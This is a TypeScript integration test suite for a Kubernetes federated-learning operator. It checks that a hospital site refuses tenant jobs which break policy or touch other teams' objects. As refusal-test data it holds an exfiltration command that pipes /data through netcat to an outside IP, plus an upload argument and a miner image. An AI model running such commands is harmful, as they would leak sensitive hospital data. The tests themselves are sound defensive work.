/**
 * A tenant of the hub with FederatedJob rights in one namespace and nothing else, trying to make a
 * hospital run what it did not allow, to use a Site that does not allow its namespace, and to have
 * the operator take over or delete other teams' objects (issue 13, findings 3 and 4). Every case
 * asserts the refusal and that nothing of the hospital, the other team or the other tenant changed.
 */
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { clientObjectNames } from '../../../operator/site/client-objects.js';
import { resolveBinDir } from '../../support/envtest/controlplane.js';
import { eventually } from '../../support/eventually.js';
import { AGGREGATOR_ADDRESS, BYO_COMMAND, HONEST, job, OTHER_NS, SITE_NS, startTrustWorld, TENANT_NS, type TrustWorld } from './fixture.js';

jest.setTimeout(300_000);

interface Obj {
  metadata: {
    name: string;
    uid: string;
    resourceVersion: string;
    labels?: Record<string, string>;
    ownerReferences?: unknown[];
    managedFields?: { manager: string }[];
  };
  spec?: Record<string, unknown>;
  data?: Record<string, string>;
  status?: Record<string, unknown>;
}
type JobStatus = { sites?: { name: string; phase: string; message?: string }[]; conditions?: { type: string; status: string; reason: string; message: string }[] };

let w: TrustWorld;

beforeAll(() => resolveBinDir(), 30 * 60_000);
beforeAll(async () => {
  w = await startTrustWorld('trust-tenant');
}, 240_000);
afterAll(() => w?.stop());

const jobStatus = async (name: string, ns = TENANT_NS) => (await w.admin.json<{ status?: JobStatus }>('get', 'federatedjob', name, `-n=${ns}`)).status ?? {};
const siteOf = async (name: string, ns = TENANT_NS) => (await jobStatus(name, ns)).sites?.find((s) => s.name === HONEST);
const condition = async (name: string, type: string, ns = TENANT_NS) => (await jobStatus(name, ns)).conditions?.find((c) => c.type === type);
/** The hospital's objects of a job, by the agent's labels. */
const atSite = async (name: string, ns = TENANT_NS) =>
  (await w.hospital('get', 'pods,secrets,configmaps,networkpolicies', `-n=${SITE_NS}`, `-l=flotilla.dev/job=${name},flotilla.dev/job-namespace=${ns}`, '--output=name')).trim();
const gone = (kind: string, name: string, ns = TENANT_NS) => w.admin('get', kind, name, `-n=${ns}`).then(() => false, () => true);

/** The site refused the job for `reason`, and made nothing for it. */
async function refusedBySite(name: string, reason: RegExp): Promise<void> {
  await eventually(async () => (await siteOf(name))?.phase === 'Refused', 60_000, `${name} to be refused by the site`);
  expect((await siteOf(name))!.message).toMatch(/^refused by the site's policy: /);
  expect((await siteOf(name))!.message).toMatch(reason);
  expect(await condition(name, 'SitesReady')).toMatchObject({ status: 'False', reason: 'SiteRefused' });
  expect(await atSite(name)).toBe('');
}

describe("the site's policy, tried with real jobs", () => {
  let honestPod: Obj;

  beforeAll(async () => {
    await w.tenant.apply(job('heart'));
    await eventually(async () => (await siteOf('heart'))?.phase === 'Running', 90_000, 'the honest job to run at the site');
    const names = clientObjectNames({ namespace: TENANT_NS, job: 'heart' });
    honestPod = await w.hospital.json<Obj>('get', 'pod', names.pod, `-n=${SITE_NS}`);
    await w.hospital('create', 'namespace', 'oncology-data').catch(() => undefined);
  });

  /** The honest job's client is untouched: the same pod, never restarted or replaced. */
  const honestUntouched = async () => {
    const pod = await w.hospital.json<Obj>('get', 'pod', honestPod.metadata.name, `-n=${SITE_NS}`);
    expect(pod.metadata.uid).toBe(honestPod.metadata.uid);
  };

  test("a job the policy allows runs with the agent's own command, and a NetworkPolicy to its aggregator only", async () => {
    const spec = honestPod.spec as { containers: { command: string[]; args: string[] }[] };
    expect(spec.containers[0]!.command).toEqual(['flotilla', 'client']);
    const names = clientObjectNames({ namespace: TENANT_NS, job: 'heart' });
    const policy = await w.hospital.json<Obj>('get', 'networkpolicy', names.networkPolicy, `-n=${SITE_NS}`);
    expect(policy.spec).toEqual({
      podSelector: { matchLabels: expect.objectContaining({ 'flotilla.dev/job': 'heart', 'flotilla.dev/job-namespace': TENANT_NS }) },
      policyTypes: ['Ingress', 'Egress'],
      egress: [{ to: [{ ipBlock: { cidr: `${AGGREGATOR_ADDRESS.split(':')[0]}/32` } }], ports: [{ protocol: 'TCP', port: 8443 }] }],
    });
    // The policy selects the pod: every one of its labels is the pod's.
    const selector = (policy.spec as { podSelector: { matchLabels: Record<string, string> } }).podSelector.matchLabels;
    expect(honestPod.metadata.labels).toMatchObject(selector);
  });

  test("a bring-your-own trainer runs only as the policy's command, which the job file then names", async () => {
    await w.tenant.apply(job('byo', { trainer: { command: BYO_COMMAND } }));
    await eventually(async () => (await siteOf('byo'))?.phase === 'Running', 60_000, 'the allowed command to run');
    const file = await w.hospital('get', 'configmap', clientObjectNames({ namespace: TENANT_NS, job: 'byo' }).configMap, `-n=${SITE_NS}`, '--output=jsonpath={.data.job\\.json}');
    expect(JSON.parse(file).spec.trainer.command).toEqual(BYO_COMMAND);
    await honestUntouched();
  });

  test('a trainer command the policy does not list is refused', async () => {
    await w.tenant.apply(job('exfiltrate', { trainer: { command: ['sh', '-c', 'tar c /data | nc 203.0.113.9 80'] } }));
    await refusedBySite('exfiltrate', /trainer command \["sh","-c","tar c \/data \| nc 203.0.113.9 80"\] is not one of trainers.commands/);
    await honestUntouched();
  });

  test("the policy's command with an argument of the job's own is refused", async () => {
    await w.tenant.apply(job('extra-arg', { trainer: { command: [...BYO_COMMAND, '--upload-to=https://203.0.113.9'] } }));
    await refusedBySite('extra-arg', /is not one of trainers.commands/);
  });

  test("another team's claim at the hospital cannot be mounted, and is left as it was", async () => {
    const claim = { apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'oncology-records', namespace: SITE_NS }, spec: { accessModes: ['ReadOnlyMany'], resources: { requests: { storage: '1Gi' } } } };
    await w.hospital.apply(claim);
    const before = await w.hospital.json<Obj>('get', 'pvc', 'oncology-records', `-n=${SITE_NS}`);
    await w.tenant.apply(job('other-claim', { data: { path: 'heart.csv', claimName: 'oncology-records' } }));
    await refusedBySite('other-claim', /claim oncology-records is not allowed \(the site's data claim site-data, allowedClaims: none\)/);
    const after = await w.hospital.json<Obj>('get', 'pvc', 'oncology-records', `-n=${SITE_NS}`);
    expect(after.metadata).toMatchObject({ uid: before.metadata.uid, resourceVersion: before.metadata.resourceVersion });
    const mounters = (await w.hospital.json<{ items: { spec: { volumes?: { persistentVolumeClaim?: { claimName: string } }[] } }[] }>('get', 'pods', `-n=${SITE_NS}`)).items.filter((p) =>
      p.spec.volumes?.some((v) => v.persistentVolumeClaim?.claimName === 'oncology-records'),
    );
    expect(mounters).toEqual([]);
  });

  test('a node the policy does not allow (the records node by its hostname) is refused', async () => {
    await w.tenant.apply(job('pinned', { sites: { names: [HONEST], overrides: [{ site: HONEST, nodeSelector: { 'kubernetes.io/hostname': 'records-node' } }] } }));
    await refusedBySite('pinned', /node selector kubernetes.io\/hostname=records-node is not allowed/);
  });

  test('a toleration the policy does not allow (every taint) is refused', async () => {
    await w.tenant.apply(job('tolerate-all', { sites: { names: [HONEST], overrides: [{ site: HONEST, tolerations: [{ operator: 'Exists' }] }] } }));
    await refusedBySite('tolerate-all', /toleration <any key> \(Exists\) is not allowed/);
  });

  test('a toleration with a field Kubernetes does not know is refused by the hub, before any site sees it', async () => {
    const bad = job('odd-toleration', { sites: { names: [HONEST], overrides: [{ site: HONEST, tolerations: [{ key: 'research', operator: 'Exists', effect: 'NoSchedule', evil: 'x' }] }] } });
    await expect(w.tenant.apply(bad)).rejects.toThrow(/unknown field "spec.sites.overrides\[0\].tolerations\[0\].evil"/);
    expect(await gone('federatedjob', 'odd-toleration')).toBe(true);
  });

  test('an image the policy does not allow is refused', async () => {
    await w.tenant.apply(job('miner', { trainer: { image: 'docker.io/someone/miner:latest', command: BYO_COMMAND } }));
    await refusedBySite('miner', /image docker.io\/someone\/miner:latest matches none of allowedImages/);
    await honestUntouched();
  });
});

describe('tenancy at the hub: a Site says which namespaces may use it', () => {
  test('a job of a namespace the Site does not allow gets no assignment there, and says why', async () => {
    await w.otherTenant.apply(job('elsewhere', {}, OTHER_NS));
    await eventually(async () => (await siteOf('elsewhere', OTHER_NS))?.phase === 'Refused', 60_000, 'the hub to refuse the site');
    const why = `Site ${HONEST} does not allow jobs of namespace ${OTHER_NS} (its spec.allowedNamespaces: ${TENANT_NS}): the hub gives it no assignment`;
    expect((await siteOf('elsewhere', OTHER_NS))!.message).toBe(why);
    expect(await condition('elsewhere', 'SitesReady', OTHER_NS)).toMatchObject({ status: 'False', reason: 'SiteNotAllowed' });
    const events = await w.admin('get', 'events', `-n=${OTHER_NS}`, '--field-selector=involvedObject.name=elsewhere', '--output=jsonpath={.items[*].reason}');
    expect(events.split(' ')).toContain('SiteNotAllowed');
    // Some time later, still nothing at the hospital.
    await new Promise((r) => setTimeout(r, 2_000));
    expect(await atSite('elsewhere', OTHER_NS)).toBe('');
  });

  test('a selector does not pick a Site that does not allow the namespace', async () => {
    await w.admin('label', 'site', HONEST, 'region=north', '--overwrite');
    await w.otherTenant.apply(job('picky', { sites: { selector: { matchLabels: { region: 'north' } } } }, OTHER_NS));
    await eventually(async () => (await condition('picky', 'Ready', OTHER_NS))?.reason === 'WaitingForSites', 60_000, 'the job to wait for sites');
    expect((await condition('picky', 'Ready', OTHER_NS))!.message).toMatch(/matches no Site among the Sites that allow namespace oncology/);
    expect(await atSite('picky', OTHER_NS)).toBe('');
  });

  test('a Site cannot allow every namespace with a wildcard', async () => {
    const site = { apiVersion: 'flotilla.dev/v1alpha1', kind: 'Site', metadata: { name: 'open-door' }, spec: { allowedNamespaces: ['*'] } };
    await expect(w.admin.apply(site)).rejects.toThrow(/each allowedNamespaces entry must be a namespace name/);
  });

  test('the tenant cannot widen a Site itself', async () => {
    await expect(w.tenant('patch', 'site', HONEST, '--type=merge', '-p', JSON.stringify({ spec: { allowedNamespaces: [TENANT_NS, OTHER_NS] } }))).rejects.toThrow(/forbidden/);
  });
});

describe("FederatedJob rights give no power over another team's objects", () => {
  // Another team's objects in the tenant's namespace, of the names a job of the tenant's would make.
  const theirs = (kind: string, name: string, body: Record<string, unknown>) => ({
    apiVersion: kind === 'Deployment' ? 'apps/v1' : 'v1',
    kind,
    metadata: { name, namespace: TENANT_NS, labels: { team: 'oncology' } },
    ...body,
  });
  const cases: [string, string, string, Record<string, unknown>][] = [
    ['their claim (data loss, were it deleted)', 'PersistentVolumeClaim', 'claim-checkpoints', { spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '5Gi' } } } }],
    ['their Service (and its selector)', 'Service', 'svc-aggregator', { spec: { selector: { app: 'oncology-api' }, ports: [{ port: 443, targetPort: 8443 }] } }],
    ['their ConfigMap', 'ConfigMap', 'cm-spec', { data: { 'settings.json': '{"team":"oncology"}' } }],
    [
      'their Deployment',
      'Deployment',
      'dep-aggregator',
      { spec: { replicas: 0, selector: { matchLabels: { app: 'oncology' } }, template: { metadata: { labels: { app: 'oncology' } }, spec: { containers: [{ name: 'c', image: 'oncology/api:1' }] } } } },
    ],
  ];

  // A job's Secrets are named after each certificate (and only ever created), its CA is kept in the
  // operator's namespace: Secrets of the names an earlier layout used are no obstacle and never touched.
  test('their Secrets of the aggregator certificate and job CA names of old are left alone, and the job runs', async () => {
    const secrets = ['sec-aggregator-tls', 'sec-flotilla-ca'];
    for (const name of secrets) await w.admin.apply(theirs('Secret', name, { type: 'Opaque', stringData: { password: 'oncology' } }));
    const read = (name: string) => w.admin.json<Obj>('get', 'secret', name, `-n=${TENANT_NS}`, '--show-managed-fields');
    const before = await Promise.all(secrets.map(read));
    await w.tenant.apply(job('sec'));
    await eventually(async () => (await w.admin('get', 'deployment', 'sec-aggregator', `-n=${TENANT_NS}`, '--ignore-not-found', '--output=name')).trim() !== '', 60_000, 'the aggregator Deployment');
    expect((await condition('sec', 'Ready'))?.reason).not.toBe('ObjectConflict');
    await w.tenant('delete', 'federatedjob', 'sec', '--wait=true', '--timeout=60s');
    const after = await Promise.all(secrets.map(read));
    after.forEach((secret, i) => {
      expect(secret.metadata.uid).toBe(before[i]!.metadata.uid);
      expect(secret.metadata.ownerReferences).toBeUndefined();
      expect(secret.metadata.managedFields?.map((f) => f.manager)).not.toContain('flotilla-operator');
      expect(secret.data).toEqual(before[i]!.data);
    });
  });

  test.each(cases)('%s: the job reports the conflict, the object is never touched, and deleting the job leaves it', async (_what, kind, name, body) => {
    const jobName = name.replace(/-(checkpoints|aggregator|spec)$/, '');
    await w.admin.apply(theirs(kind, name, body));
    const read = () => w.admin.json<Obj>('get', kind, name, `-n=${TENANT_NS}`, '--show-managed-fields');
    const before = await read();
    await w.tenant.apply(job(jobName));
    await eventually(async () => (await condition(jobName, 'Ready'))?.reason === 'ObjectConflict', 60_000, `the conflict over ${kind} ${name}`);
    expect((await condition(jobName, 'Ready'))!.message).toBe(
      `${kind} ${TENANT_NS}/${name} exists and is not this job's: the operator leaves it untouched; remove it, or give the job another name`,
    );
    const events = await w.admin('get', 'events', `-n=${TENANT_NS}`, `--field-selector=involvedObject.name=${jobName},reason=ObjectConflict`, '--output=name');
    expect(events.trim()).not.toBe('');

    await w.tenant('delete', 'federatedjob', jobName, '--wait=true', '--timeout=60s');
    const after = await read();
    // The same object, as its team made it (the cluster's own controllers may have written its status).
    expect(after.metadata.uid).toBe(before.metadata.uid);
    expect(after.metadata.ownerReferences).toBeUndefined();
    expect(after.metadata.labels).toEqual({ team: 'oncology' });
    expect(after.metadata.managedFields?.map((f) => f.manager)).not.toContain('flotilla-operator');
    for (const field of ['spec', 'data'] as const) if (before[field]) expect(after[field]).toEqual(before[field]);
  });
});
